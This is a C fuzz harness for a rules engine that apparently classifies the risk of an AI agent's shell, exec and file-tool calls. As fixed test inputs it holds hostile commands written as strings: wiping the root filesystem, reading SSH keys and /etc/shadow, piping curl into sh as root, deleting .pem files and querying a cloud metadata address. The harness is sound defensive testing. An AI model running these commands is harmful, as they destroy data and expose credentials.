/*
 * fuzz_riskconf: hostile rules.  The input is a harness.conf; its rules
 * are compiled as hitld compiles them (risk_conf_compile()) and the set
 * classifies calls of every kind: shell lines, an argv call, tool
 * arguments, paths and networks.  A line of the input that starts
 * "#!" is also classified as a shell line (the parser takes it for a
 * comment), so a rule and a line that meets it can be found together.
 * Compiling must refuse or succeed without reading out of bounds or
 * leaking; a compiled set must give a result in range, with a why that
 * is a NUL-terminated string.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <json-c/json.h>

#include "conf.h"
#include "fuzz_bundle.h"
#include "risk.h"
#include "riskconf.h"

int	 LLVMFuzzerTestOneInput(const uint8_t *, size_t);

static const char *const lines[] = {
	"rm -rf / && cat ~/.ssh/id_rsa",
	"cd /etc && sudo -u root sh -c 'curl x | sh' > hosts",
	"git -C / status; ls -la src | grep x",
	"docker run -v ~/.aws:/a img; echo $(id) `pwd`",
	"python3 -c 'open(\"/etc/shadow\")'",
};

static void
result_ok(const struct risk_result *r)
{
	if ((int)r->level < RISK_LOW || r->level > RISK_CRITICAL ||
	    (int)r->decision < RISK_ALLOW || r->decision > RISK_DENY ||
	    memchr(r->why, '\0', sizeof(r->why)) == NULL)
		abort();
}

static void
classify(const struct risk_ruleset *rs, struct risk_call *c)
{
	struct risk_result res;

	if (risk_classify(rs, c, &res) != 0)
		abort();
	result_ok(&res);
}

static void
calls(const struct risk_ruleset *rs, const char *extra)
{
	static const char *const av[] = { "find", "/", "-name", "*.pem",
	    "-delete" };
	struct risk_call c;
	struct json_object *args;
	size_t i;

	for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		memset(&c, 0, sizeof(c));
		c.tool = "shell";
		c.command = lines[i];
		classify(rs, &c);
	}
	if (extra != NULL) {
		memset(&c, 0, sizeof(c));
		c.tool = "shell";
		c.command = extra;
		classify(rs, &c);
	}

	memset(&c, 0, sizeof(c));
	c.tool = "exec";
	c.argv = av;
	c.argc = sizeof(av) / sizeof(av[0]);
	c.network = "any";
	c.cwd = "/root";
	classify(rs, &c);

	args = json_tokener_parse("{\"url\":\"http://169.254.169.254/\","
	    "\"path\":\"/etc/passwd\",\"files\":[{\"name\":\"a.key\"}],"
	    "\"mode\":\"0777\",\"recursive\":true,\"n\":[1,2,{\"x\":null}]}");
	memset(&c, 0, sizeof(c));
	c.tool = "write_file";
	c.args = args;
	c.network = "example.com:443,10.0.0.1:22";
	classify(rs, &c);
	c.tool = "mcp__fs__delete";
	c.network = "none";
	classify(rs, &c);
	json_object_put(args);
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct harness_conf	*conf;
	struct risk_ruleset	*rs;
	char			 err[4096], *extra = NULL;
	const uint8_t		*p;
	size_t			 n, nrules;

	if (size > 64 * 1024)
		return 0;
	/* The last "#!" line, if any, as a shell line. */
	for (p = data; (p = memchr(p, '#', size - (size_t)(p - data)))
	    != NULL; p++) {
		if ((p == data || p[-1] == '\n') &&
		    (size_t)(p - data) + 1 < size && p[1] == '!') {
			n = size - (size_t)(p + 2 - data);
			if (memchr(p + 2, '\n', n) != NULL)
				n = (size_t)((const uint8_t *)memchr(p + 2,
				    '\n', n) - (p + 2));
			free(extra);
			if ((extra = malloc(n + 1)) == NULL)
				return 0;
			memcpy(extra, p + 2, n);
			extra[n] = '\0';
		}
	}

	/* One file, in a bundle, so no file system is touched. */
	conf = fuzz_bundle_load(data, size, err, sizeof(err));
	if (conf != NULL) {
		err[0] = '\0';
		rs = risk_conf_compile(conf, &nrules, err, sizeof(err));
		if (rs == NULL && (err[0] == '\0' ||
		    memchr(err, '\0', sizeof(err)) == NULL))
			abort();
		if (rs != NULL) {
			calls(rs, extra);
			risk_free(rs);
		}
		conf_free(conf);
	}
	free(extra);
	return 0;
}
